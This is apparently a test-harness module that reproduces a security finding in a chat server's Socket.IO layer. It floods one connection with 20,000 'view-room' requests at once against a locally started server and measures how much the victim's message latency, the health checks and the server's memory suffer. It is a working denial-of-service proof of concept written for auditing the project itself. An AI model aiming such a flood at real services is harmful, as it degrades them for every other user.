/**
 * Finding 2: one connection's requests are all started at once, with nothing bounding how many are in
 * flight, so a burst from one client delays everyone (and the health check) behind it.
 */
import { http } from './http.js';
import { type Attack, mib, percentile, probe, type Row, sleep, tally } from './lib.js';
import { startServer } from './server.js';
import { registerUser } from './users.js';
import { SioClient } from './wire.js';

const FINDING = '2 in-flight flood';
const FLOOD = 20_000;
const MAX_MS = 20_000;

export const attack: Attack = {
  name: 'inflight-flood',
  async run(repo) {
    const rows: Row[] = [];
    // MAX_REQUESTS_IN_FLIGHT, what this measures, is not among the raised limits: it runs at its default.
    const server = await startServer(repo);
    await probe(
      rows,
      FINDING,
      `one connection emits ${FLOOD.toLocaleString('en')} view-room at once; another user sends send-message every 100 ms; GET /api/health every 250 ms`,
      async () => {
        const [attackerUser, victimUser] = [
          await registerUser(server, 'flood'),
          await registerUser(server, 'victim'),
        ];
        const attacker = await SioClient.connect(server.url, {
          auth: { socketSecret: attackerUser.socketSecret },
        });
        const victim = await SioClient.connect(server.url, {
          auth: { socketSecret: victimUser.socketSecret },
        });
        await attacker.request('join-room', { room: 'flood' });
        await victim.request('join-room', { room: 'lobby' });
        let answered = 0;
        attacker.ws.on('message', (data) => {
          if (data.toString().startsWith('43')) answered++;
        });

        const latencies: number[] = [];
        const victimErrors: string[] = [];
        const sends: Promise<void>[] = [];
        const healthStatuses: (number | string)[] = [];
        const healthMs: number[] = [];
        const polls: Promise<void>[] = [];
        const sender = setInterval(() => {
          const at = performance.now();
          sends.push(
            victim.request('send-message', { room: 'lobby', body: { text: 'hi' } }, 30_000).then(
              () => void latencies.push(performance.now() - at),
              (err: Error) => void victimErrors.push(err.message),
            ),
          );
        }, 100);
        const poller = setInterval(() => {
          const at = performance.now();
          polls.push(
            http(server, 'GET', '/api/health', { timeoutMs: 10_000 }).then(
              (r) => {
                healthStatuses.push(r.status);
                healthMs.push(performance.now() - at);
              },
              () => void healthStatuses.push('timeout'),
            ),
          );
        }, 250);
        let peakRss = server.rssBytes() ?? 0;
        const started = Date.now();
        for (let i = 0; i < FLOOD; i++) attacker.ws.send(`42${i + 100}["view-room",{"room":"flood"}]`);
        while (answered < FLOOD && Date.now() - started < MAX_MS && server.alive() && attacker.open) {
          peakRss = Math.max(peakRss, server.rssBytes() ?? 0);
          await sleep(100);
        }
        const drainedMs = Date.now() - started;
        // A second of quiet after the flood, for the victim's latency to come back down.
        await sleep(1000);
        clearInterval(sender);
        clearInterval(poller);
        await Promise.all([...sends, ...polls]);
        // Closed by the server before we close it ourselves, if at all.
        const attackerClosed = attacker.closeCode;
        attacker.close();
        victim.close();
        const p50 = percentile(latencies, 50);
        const max = Math.max(...latencies);
        return {
          outcome:
            `victim send-message p50 ${p50.toFixed(0)} ms, p99 ${percentile(latencies, 99).toFixed(0)} ms, max ${max.toFixed(0)} ms (${latencies.length} acked, ${victimErrors.length} failed); ` +
            `health ${JSON.stringify(tally(healthStatuses))}, slowest ${Math.max(...healthMs).toFixed(0)} ms; ` +
            `attacker got ${answered} of ${FLOOD} answers in ${(drainedMs / 1000).toFixed(1)} s${attackerClosed === undefined ? '' : `; its connection was closed (${attackerClosed})`}; peak RSS ${mib(peakRss)}`,
          figures: {
            victimP50Ms: p50,
            victimP99Ms: percentile(latencies, 99),
            victimMaxMs: max,
            victimAcked: latencies.length,
            victimErrors: tally(victimErrors),
            healthStatuses: tally(healthStatuses),
            healthMaxMs: Math.max(...healthMs),
            attackerAnswers: answered,
            attackerDrainMs: drainedMs,
            attackerCloseCode: attackerClosed ?? null,
            peakRssBytes: peakRss,
            serverAlive: server.alive(),
          },
        };
      },
    );
    await server.stop();
    return rows;
  },
};
